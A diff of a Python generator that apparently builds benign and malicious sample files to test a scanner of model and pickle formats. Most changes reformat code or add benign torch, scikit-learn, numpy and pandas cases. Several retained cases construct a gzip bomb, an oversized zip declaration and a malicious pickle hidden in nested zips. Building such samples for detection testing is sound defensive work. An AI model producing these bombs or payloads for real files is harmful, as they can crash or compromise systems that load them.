@@ -1066,7 +1385,11 @@ def _gzip_bomb(ctx: _Ctx, n: str) -> Path:
     return _write(ctx.mal / f"{n}.pkl.gz", header + body + trailer)
 
 
-@_mal("zip-declared-huge-member", "zip member whose directory declares 3 GiB (error acceptable)", ERROR_OR_FLAGGED)
+@_mal(
+    "zip-declared-huge-member",
+    "zip member whose directory declares 3 GiB (error acceptable)",
+    ERROR_OR_FLAGGED,
+)
 def _zip_declared(ctx: _Ctx, n: str) -> Path:
     data = bytearray(_rezip([("model.pkl", _inner_pickle(ctx, n))], zipfile.ZIP_DEFLATED))
     cen = _central_entries(bytes(data))["model.pkl"]
@@ -1074,7 +1397,11 @@ def _zip_declared(ctx: _Ctx, n: str) -> Path:
     return _write(ctx.mal / f"{n}.zip", bytes(data))
 
 
-@_mal("nesting-depth-bomb", "malicious pickle inside 12 nested zips (error acceptable)", ERROR_OR_FLAGGED)
+@_mal(
+    "nesting-depth-bomb",
+    "malicious pickle inside 12 nested zips (error acceptable)",
+    ERROR_OR_FLAGGED,
+)
 def _nesting(ctx: _Ctx, n: str) -> Path:
     data = _inner_pickle(ctx, n)
     name = "model.pkl"
@@ -1093,7 +1420,9 @@ def _nets() -> dict[str, Any]:
     nn = torch.nn
 
     class TinyGPT(nn.Module):
-        def __init__(self, vocab: int = 50, dim: int = 16, heads: int = 2, ctx_len: int = 8) -> None:
+        def __init__(
+            self, vocab: int = 50, dim: int = 16, heads: int = 2, ctx_len: int = 8
+        ) -> None:
             super().__init__()
             self.tok = nn.Embedding(vocab, dim)
             self.pos = nn.Embedding(ctx_len, dim)
@@ -1126,7 +1455,9 @@ def _nets() -> dict[str, Any]:
         "transformer": nn.Transformer(16, 2, 1, 1, 32, dropout=0.0),
         "emb-attn": EmbAttn(),
         "tiny-gpt": TinyGPT(),
-        "transformer-encoder": nn.TransformerEncoder(nn.TransformerEncoderLayer(16, 2, 32), 2, enable_nested_tensor=False),
+        "transformer-encoder": nn.TransformerEncoder(
+            nn.TransformerEncoderLayer(16, 2, 32), 2, enable_nested_tensor=False
+        ),
     }
 
 
@@ -1152,7 +1483,10 @@ _state_dict_case("tiny-gpt", "a tiny GPT built from nn modules (tied embeddings)
 def _module_case(key: str, label: str, **kw: Any) -> None:
     suffix = f"-p{kw['pickle_protocol']}" if "pickle_protocol" in kw else ""
 
-    @_ben(f"torch-whole-module-{key}{suffix}", f"torch.save(model) of a whole {label} (torch.nn classes only){suffix}")
+    @_ben(
+        f"torch-whole-module-{key}{suffix}",
+        f"torch.save(model) of a whole {label} (torch.nn classes only){suffix}",
+    )
     def build(ctx: _Ctx, n: str) -> Path:
         return _write(ctx.ben / f"{n}.pt", _torch_bytes(_net(ctx, key), **kw))
 
@@ -1173,7 +1507,9 @@ def _optimizers(ctx: _Ctx) -> dict[str, Any]:
         makers = {
             "sgd-momentum": lambda p: torch.optim.SGD(p, lr=0.1, momentum=0.9, nesterov=True),
             "adam": lambda p: torch.optim.Adam(p, lr=1e-3),
-            "adamw-amsgrad": lambda p: torch.optim.AdamW(p, lr=1e-3, weight_decay=0.01, amsgrad=True),
+            "adamw-amsgrad": lambda p: torch.optim.AdamW(
+                p, lr=1e-3, weight_decay=0.01, amsgrad=True
+            ),
         }
         for key, mk in makers.items():
             model = torch.nn.Linear(4, 2)
@@ -1238,7 +1574,12 @@ def _checkpoint_dict(ctx: _Ctx) -> dict[str, Any]:
     import datetime
 
     args = argparse.Namespace(
-        lr=3e-4, batch_size=32, data_dir=Path("/data/imagenet"), out=Path("runs/exp1"), amp=True, tags=["a", "b"]
+        lr=3e-4,
+        batch_size=32,
+        data_dir=Path("/data/imagenet"),
+        out=Path("runs/exp1"),
+        amp=True,
+        tags=["a", "b"],
     )
     return {
         "epoch": 7,
@@ -1252,7 +1593,10 @@ def _checkpoint_dict(ctx: _Ctx) -> dict[str, Any]:
     }
 
 
-@_ben("torch-checkpoint-dict", "checkpoint dict: epoch/step/model/optimizer/scheduler/argparse.Namespace/pathlib/datetime")
+@_ben(
+    "torch-checkpoint-dict",
+    "checkpoint dict: epoch/step/model/optimizer/scheduler/argparse.Namespace/pathlib/datetime",
+)
 def _ckpt(ctx: _Ctx, n: str) -> Path:
     return _write(ctx.ben / f"{n}.pt", _torch_bytes(_checkpoint_dict(ctx)))
 
@@ -1262,7 +1606,10 @@ def _ckpt2(ctx: _Ctx, n: str) -> Path:
     return _write(ctx.ben / f"{n}.pt", _torch_bytes(_checkpoint_dict(ctx), pickle_protocol=2))
 
 
-@_ben("torch-checkpoint-dict-p4", "checkpoint dict saved with pickle_protocol=4 (FRAME, STACK_GLOBAL, MEMOIZE)")
+@_ben(
+    "torch-checkpoint-dict-p4",
+    "checkpoint dict saved with pickle_protocol=4 (FRAME, STACK_GLOBAL, MEMOIZE)",
+)
 def _ckpt4(ctx: _Ctx, n: str) -> Path:
     return _write(ctx.ben / f"{n}.pt", _torch_bytes(_checkpoint_dict(ctx), pickle_protocol=4))
 
@@ -1312,7 +1659,11 @@ def _rng_state() -> dict[str, Any]:
     random.seed(0)
     np.random.seed(0)
     torch.manual_seed(0)
-    return {"python": random.getstate(), "numpy": np.random.get_state(), "cpu": torch.get_rng_state()}
+    return {
+        "python": random.getstate(),
+        "numpy": np.random.get_state(),
+        "cpu": torch.get_rng_state(),
+    }
 
 
 @_ben("torch-rng-state", "rng state: random.getstate, numpy.random.get_state, torch.get_rng_state")
@@ -1320,7 +1671,9 @@ def _rng(ctx: _Ctx, n: str) -> Path:
     return _write(ctx.ben / f"{n}.pth", _torch_bytes(_rng_state()))
 
 
-@_ben("torch-numpy-generator", "checkpoint with numpy Generator/RandomState objects and numpy scalars")
+@_ben(
+    "torch-numpy-generator", "checkpoint with numpy Generator/RandomState objects and numpy scalars"
+)
 def _np_gen(ctx: _Ctx, n: str) -> Path:
     import numpy as np
 
@@ -1347,7 +1700,13 @@ def _gpt2(ctx: _Ctx) -> Any:
         torch = _torch()
         torch.manual_seed(0)
         cfg = transformers.GPT2Config(
-            n_layer=1, n_embd=32, n_head=2, vocab_size=100, n_positions=64, bos_token_id=0, eos_token_id=0
+            n_layer=1,
+            n_embd=32,
+            n_head=2,
+            vocab_size=100,
+            n_positions=64,
+            bos_token_id=0,
+            eos_token_id=0,
         )
         return transformers.GPT2LMHeadModel(cfg)
 
@@ -1356,7 +1715,8 @@ def _gpt2(ctx: _Ctx) -> Any:
 
 _CHAT_TEMPLATE = (
     "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + message['content']"
-    " + '<|im_end|>' + '\\n' }}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
+    " + '<|im_end|>' + '\\n' }}{% endfor %}"
+    "{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
 )
 
 
@@ -1376,11 +1736,18 @@ def _tokenizer_files(dst: Path) -> None:
         "model": {"type": "WordLevel", "vocab": vocab, "unk_token": "t0"},
     }
     (dst / "tokenizer.json").write_text(json.dumps(tok))
-    cfg = {"tokenizer_class": "PreTrainedTokenizerFast", "unk_token": "t0", "chat_template": _CHAT_TEMPLATE}
+    cfg = {
+        "tokenizer_class": "PreTrainedTokenizerFast",
+        "unk_token": "t0",
+        "chat_template": _CHAT_TEMPLATE,
+    }
     (dst / "tokenizer_config.json").write_text(json.dumps(cfg, indent=2))
 
 
-@_ben("hf-gpt2-safetensors-folder", "HF tiny GPT-2 save_pretrained (model.safetensors, config, tokenizer with chat template)")
+@_ben(
+    "hf-gpt2-safetensors-folder",
+    "HF tiny GPT-2 save_pretrained (model.safetensors, config, tokenizer with chat template)",
+)
 def _hf_st(ctx: _Ctx, n: str) -> Path:
     dst = ctx.ben / n
     _gpt2(ctx).save_pretrained(dst)
@@ -1388,7 +1755,10 @@ def _hf_st(ctx: _Ctx, n: str) -> Path:
     return dst
 
 
-@_ben("hf-gpt2-bin-folder", "HF tiny GPT-2 folder with pytorch_model.bin (torch.save of the state_dict)")
+@_ben(
+    "hf-gpt2-bin-folder",
+    "HF tiny GPT-2 folder with pytorch_model.bin (torch.save of the state_dict)",
+)
 def _hf_bin(ctx: _Ctx, n: str) -> Path:
     model = _gpt2(ctx)
     dst = ctx.ben / n
@@ -1476,14 +1846,27 @@ def _fake_trainer_checkpoint(ctx: _Ctx, out: Path) -> dict[str, Any]:
     vars(args)["output_dir"] = str(out)
     dst = out / "checkpoint-2"
     model.save_pretrained(dst)
-    state = {"optimizer": opt.state_dict(), "scheduler": sched.state_dict(), "rng": _rng_state(), "args": args}
-    for fname, key in (("optimizer.pt", "optimizer"), ("scheduler.pt", "scheduler"), ("rng_state.pth", "rng"), ("training_args.bin", "args")):
+    state = {
+        "optimizer": opt.state_dict(),
+        "scheduler": sched.state_dict(),
+        "rng": _rng_state(),
+        "args": args,
+    }
+    for fname, key in (
+        ("optimizer.pt", "optimizer"),
+        ("scheduler.pt", "scheduler"),
+        ("rng_state.pth", "rng"),
+        ("training_args.bin", "args"),
+    ):
         _write(dst / fname, _torch_bytes(state[key]))
     (dst / "trainer_state.json").write_text('{"global_step": 2}')
     return {"path": dst, **state}
 
 
-@_ben("hf-trainer-checkpoint-folder", "real transformers Trainer checkpoint: optimizer.pt scheduler.pt rng_state.pth training_args.bin")
+@_ben(
+    "hf-trainer-checkpoint-folder",
+    "real 2-step Trainer checkpoint: optimizer.pt scheduler.pt rng_state.pth training_args.bin",
+)
 def _hf_trainer(ctx: _Ctx, n: str) -> Path:
     dst = ctx.ben / n
     shutil.copytree(_trainer_checkpoint(ctx)["path"], dst)
@@ -1508,10 +1891,16 @@ def _sk_models(ctx: _Ctx) -> dict[str, Any]:
         y = (x[:, 0] + x[:, 1] > 0).astype(int)
         return {
             "logreg": LogisticRegression(max_iter=200).fit(x, y),
-            "random-forest": RandomForestClassifier(n_estimators=4, max_depth=3, random_state=0).fit(x, y),
-            "pipeline": Pipeline([("scale", StandardScaler()), ("clf", LogisticRegression(max_iter=200))]).fit(x, y),
+            "random-forest": RandomForestClassifier(
+                n_estimators=4, max_depth=3, random_state=0
+            ).fit(x, y),
+            "pipeline": Pipeline(
+                [("scale", StandardScaler()), ("clf", LogisticRegression(max_iter=200))]
+            ).fit(x, y),
             "kmeans": KMeans(n_clusters=3, n_init=1, random_state=0).fit(x),
-            "gradient-boosting": GradientBoostingClassifier(n_estimators=5, max_depth=2, random_state=0).fit(x, y),
+            "gradient-boosting": GradientBoostingClassifier(
+                n_estimators=5, max_depth=2, random_state=0
+            ).fit(x, y),
         }
 
     return ctx.cached("sklearn", make)  # type: ignore[no-any-return]
@@ -1548,7 +1937,9 @@ def _joblib_np(ctx: _Ctx, n: str) -> Path:
     import numpy as np
 
     path = ctx.ben / f"{n}.joblib"
-    joblib.dump({"w": np.arange(12.0).reshape(3, 4), "b": np.zeros(3, dtype=np.int32), "name": "x"}, path)
+    joblib.dump(
+        {"w": np.arange(12.0).reshape(3, 4), "b": np.zeros(3, dtype=np.int32), "name": "x"}, path
+    )
     return path
 
 
@@ -1605,7 +1996,11 @@ def _st_torch(ctx: _Ctx, n: str) -> Path:
     from safetensors.torch import save_file
 
     path = ctx.ben / f"{n}.safetensors"
-    save_file({k: v.contiguous() for k, v in _net(ctx, "cnn").state_dict().items()}, str(path), metadata={"format": "pt"})
+    save_file(
+        {k: v.contiguous() for k, v in _net(ctx, "cnn").state_dict().items()},
+        str(path),
+        metadata={"format": "pt"},
+    )
     return path
 
 
@@ -1615,7 +2010,9 @@ def _st_numpy(ctx: _Ctx, n: str) -> Path:
     from safetensors.numpy import save_file
 
     path = ctx.ben / f"{n}.safetensors"
-    save_file({"a": np.arange(6, dtype=np.int64), "b": np.ones((2, 3), dtype=np.float32)}, str(path))
+    save_file(
+        {"a": np.arange(6, dtype=np.int64), "b": np.ones((2, 3), dtype=np.float32)}, str(path)
+    )
     return path
 
 
@@ -1624,7 +2021,10 @@ def _dcp_folder(ctx: _Ctx) -> Path:
         import torch.distributed.checkpoint as dcp
 
         out = ctx.scratch / "dcp"
-        state = {"model": _net(ctx, "mlp").state_dict(), "optim": _optimizers(ctx)["adam"]["param_groups"][0]["lr"]}
+        state = {
+            "model": _net(ctx, "mlp").state_dict(),
+            "optim": _optimizers(ctx)["adam"]["param_groups"][0]["lr"],
+        }
         with warnings.catch_warnings():
             warnings.simplefilter("ignore")
             dcp.save(state, storage_writer=dcp.FileSystemWriter(str(out)))
@@ -1633,7 +2033,10 @@ def _dcp_folder(ctx: _Ctx) -> Path:
     return ctx.cached("dcp", make)  # type: ignore[no-any-return]
 
 
-@_ben("torch-dcp-folder", "torch.distributed.checkpoint.save with FileSystemWriter, single process (.metadata + .distcp)")
+@_ben(
+    "torch-dcp-folder",
+    "torch.distributed.checkpoint.save with FileSystemWriter, single process (.metadata + .distcp)",
+)
 def _dcp_ok(ctx: _Ctx, n: str) -> Path:
     dst = ctx.ben / n
     shutil.copytree(_dcp_folder(ctx), dst)
@@ -1652,13 +2055,235 @@ _PLAIN = {
 
 
 def _plain_case(proto: int) -> None:
-    @_ben(f"pickle-plain-p{proto}", f"plain pickle (protocol {proto}) of dict/list/ints/floats/bytes/sets")
+    @_ben(
+        f"pickle-plain-p{proto}",
+        f"plain pickle (protocol {proto}) of dict/list/ints/floats/bytes/sets",
+    )
     def build(ctx: _Ctx, n: str) -> Path:
         return _write(ctx.ben / f"{n}.pkl", pickle.dumps(_PLAIN, protocol=proto))
 
 
 for _proto in (0, 2, 5):
     _plain_case(_proto)
+
+
+# ---------------------------------------------------------------------------------------
+# Benign: more of what real users save.
+
+
+@_ben(
+    "torch-whole-module-weight-norm",
+    "whole module using the classic torch.nn.utils.weight_norm hook",
+)
+def _weight_norm(ctx: _Ctx, n: str) -> Path:
+    torch = _torch()
+    torch.manual_seed(0)
+    m = torch.nn.Sequential(torch.nn.utils.weight_norm(torch.nn.Conv1d(4, 4, 3)), torch.nn.Tanh())
+    return _write(ctx.ben / f"{n}.pt", _torch_bytes(m))
+
+
+@_ben(
+    "torch-whole-module-quantized-dynamic",
+    "whole module after torch.ao.quantization.quantize_dynamic (qint8 Linear)",
+)
+def _quantized(ctx: _Ctx, n: str) -> Path:
+    torch = _torch()
+    torch.manual_seed(0)
+    m = torch.nn.Sequential(torch.nn.Linear(8, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
+    q = torch.ao.quantization.quantize_dynamic(m, {torch.nn.Linear}, dtype=torch.qint8)
+    return _write(ctx.ben / f"{n}.pt", _torch_bytes(q))
+
+
+@_ben("torch-whole-module-swa-averaged", "whole torch.optim.swa_utils.AveragedModel (EMA/SWA copy)")
+def _swa(ctx: _Ctx, n: str) -> Path:
+    torch = _torch()
+    avg = torch.optim.swa_utils.AveragedModel(_net(ctx, "mlp"))
+    avg.update_parameters(_net(ctx, "mlp"))
+    return _write(ctx.ben / f"{n}.pt", _torch_bytes(avg))
+
+
+@_ben(
+    "torch-state-dict-quantized-static",
+    "state_dict of a statically quantized (per-tensor/per-channel) conv net",
+)
+def _quantized_static_sd(ctx: _Ctx, n: str) -> Path:
+    torch = _torch()
+    t = torch.randn(4, 4)
+    sd = {
+        "w_per_tensor": torch.quantize_per_tensor(t, 0.1, 0, torch.qint8),
+        "w_per_channel": torch.quantize_per_channel(
+            t, torch.full((4,), 0.1), torch.zeros(4, dtype=torch.long), 0, torch.qint8
+        ),
+        "act": torch.quantize_per_tensor(t.abs(), 0.05, 3, torch.quint8),
+    }
+    return _write(ctx.ben / f"{n}.pt", _torch_bytes(sd))
+
+
+def _more_sk(ctx: _Ctx) -> dict[str, Any]:
+    def make() -> dict[str, Any]:
+        import numpy as np
+        import pandas as pd
+        from sklearn.compose import ColumnTransformer
+        from sklearn.ensemble import HistGradientBoostingClassifier
+        from sklearn.feature_extraction.text import TfidfVectorizer
+        from sklearn.impute import SimpleImputer
+        from sklearn.linear_model import LogisticRegression
+        from sklearn.neural_network import MLPClassifier
+        from sklearn.pipeline import Pipeline
+        from sklearn.preprocessing import FunctionTransformer, OneHotEncoder, StandardScaler
+        from sklearn.svm import SVC
+
+        rng = np.random.default_rng(0)
+        x = rng.normal(size=(60, 4))
+        y = (x[:, 0] > 0).astype(int)
+        frame = pd.DataFrame({"num": x[:, 0], "cat": rng.choice(["a", "b", "c"], 60)})
+        ct = ColumnTransformer(
+            [
+                ("num", Pipeline([("imp", SimpleImputer()), ("sc", StandardScaler())]), ["num"]),
+                ("cat", OneHotEncoder(handle_unknown="ignore"), ["cat"]),
+            ]
+        )
+        texts = ["the cat sat", "a dog ran", "the dog sat", "a cat ran"] * 5
+        return {
+            "column-transformer": Pipeline([("prep", ct), ("clf", LogisticRegression())]).fit(
+                frame, y
+            ),
+            "hist-gradient-boosting": HistGradientBoostingClassifier(
+                max_iter=5, random_state=0
+            ).fit(x, y),
+            "mlp": MLPClassifier(hidden_layer_sizes=(8,), max_iter=20, random_state=0).fit(x, y),
+            "svc": SVC(probability=False).fit(x, y),
+            "tfidf": TfidfVectorizer().fit(texts),
+            "function-transformer-log1p": Pipeline(
+                [("log", FunctionTransformer(np.log1p)), ("clf", LogisticRegression())]
+            ).fit(np.abs(x), y),
+        }
+
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")
+        return ctx.cached("more_sk", make)  # type: ignore[no-any-return]
+
+
+def _more_sk_case(key: str, label: str) -> None:
+    @_ben(f"sklearn-{key}", f"scikit-learn {label}, joblib.dump")
+    def build(ctx: _Ctx, n: str) -> Path:
+        import joblib
+
+        path = ctx.ben / f"{n}.joblib"
+        joblib.dump(_more_sk(ctx)[key], path)
+        return path
+
+
+_more_sk_case(
+    "column-transformer",
+    "ColumnTransformer(SimpleImputer, StandardScaler, OneHotEncoder) + LogisticRegression",
+)
+_more_sk_case("hist-gradient-boosting", "HistGradientBoostingClassifier")
+_more_sk_case("mlp", "MLPClassifier")
+_more_sk_case("svc", "SVC")
+_more_sk_case("tfidf", "TfidfVectorizer")
+_more_sk_case(
+    "function-transformer-log1p", "Pipeline(FunctionTransformer(numpy.log1p), LogisticRegression)"
+)
+
+
+@_ben(
+    "sklearn-random-forest-pickle",
+    "scikit-learn RandomForestClassifier with plain pickle.dump (protocol 5)",
+)
+def _sk_pickle(ctx: _Ctx, n: str) -> Path:
+    return _write(ctx.ben / f"{n}.pkl", pickle.dumps(_sk_models(ctx)["random-forest"], protocol=5))
+
+
+@_ben(
+    "joblib-numpy-mixed-dtypes",
+    "joblib.dump of arrays: f2/c16/bool/u2/datetime64/<U5/record/F-order/0-d/empty/object str",
+)
+def _joblib_mixed(ctx: _Ctx, n: str) -> Path:
+    import joblib
+    import numpy as np
+
+    obj = {
+        "f16": np.ones(3, dtype=np.float16),
+        "c128": np.arange(3, dtype=np.complex128),
+        "bool": np.array([True, False, True]),
+        "u16": np.arange(5, dtype=np.uint16),
+        "dt": np.array(["2025-01-01", "2025-01-02"], dtype="datetime64[ns]"),
+        "text": np.array(["ab", "cde"], dtype="<U5"),
+        "rec": np.zeros(2, dtype=[("x", "<f4"), ("y", "<i8")]),
+        "fortran": np.asfortranarray(np.arange(6.0).reshape(2, 3)),
+        "scalar0d": np.array(3.5),
+        "empty": np.zeros((0, 4)),
+        "objects": np.array(["a", "bb", None], dtype=object),
+    }
+    path = ctx.ben / f"{n}.joblib"
+    joblib.dump(obj, path)
+    return path
+
+
+@_ben("numpy-npy-structured", "numpy .npy structured (record) array, no objects")
+def _npy_struct(ctx: _Ctx, n: str) -> Path:
+    import numpy as np
+
+    path = ctx.ben / f"{n}.npy"
+    np.save(path, np.zeros(3, dtype=[("id", "<i8"), ("score", "<f4"), ("tag", "S4")]))
+    return path
+
+
+@_ben("numpy-npy-unicode-fortran", "numpy .npy of a '<U8' string array and Fortran order")
+def _npy_unicode(ctx: _Ctx, n: str) -> Path:
+    import numpy as np
+
+    path = ctx.ben / f"{n}.npy"
+    np.save(path, np.asfortranarray(np.array([["alpha", "beta"], ["gamma", "delta"]], dtype="<U8")))
+    return path
+
+
+@_ben("numpy-npy-format-v3", "numpy .npy format version 3.0 (utf-8 field names)")
+def _npy_v3(ctx: _Ctx, n: str) -> Path:
+    import numpy as np
+
+    arr = np.zeros(2, dtype=[("größe", "<f8")])
+    path = ctx.ben / f"{n}.npy"
+    with open(path, "wb") as fh:
+        np.lib.format.write_array(fh, arr, version=(3, 0))
+    return path
+
+
+@_ben(
+    "pandas-categorical-multiindex",
+    "pandas DataFrame with Categorical, nullable Int64, bool, float32 and a MultiIndex, to_pickle",
+)
+def _pd_more(ctx: _Ctx, n: str) -> Path:
+    import numpy as np
+    import pandas as pd
+
+    idx = pd.MultiIndex.from_product([["a", "b"], [1, 2]], names=["grp", "k"])
+    df = pd.DataFrame(
+        {
+            "cat": pd.Categorical(["x", "y", "x", "z"]),
+            "n": pd.array([1, None, 3, 4], dtype="Int64"),
+            "flag": [True, False, True, True],
+            "f32": np.arange(4, dtype=np.float32),
+        },
+        index=idx,
+    )
+    path = ctx.ben / f"{n}.pkl"
+    df.to_pickle(path)
+    return path
+
+
+@_ben("pandas-series-pickle", "pandas float Series with a DatetimeIndex, to_pickle")
+def _pd_series(ctx: _Ctx, n: str) -> Path:
+    import numpy as np
+    import pandas as pd
+
+    s = pd.Series(
+        np.arange(5.0), index=pd.date_range("2025-01-01", periods=5, freq="D"), name="loss"
+    )
+    path = ctx.ben / f"{n}.pkl"
+    s.to_pickle(path)
+    return path
 
 
 # ---------------------------------------------------------------------------------------
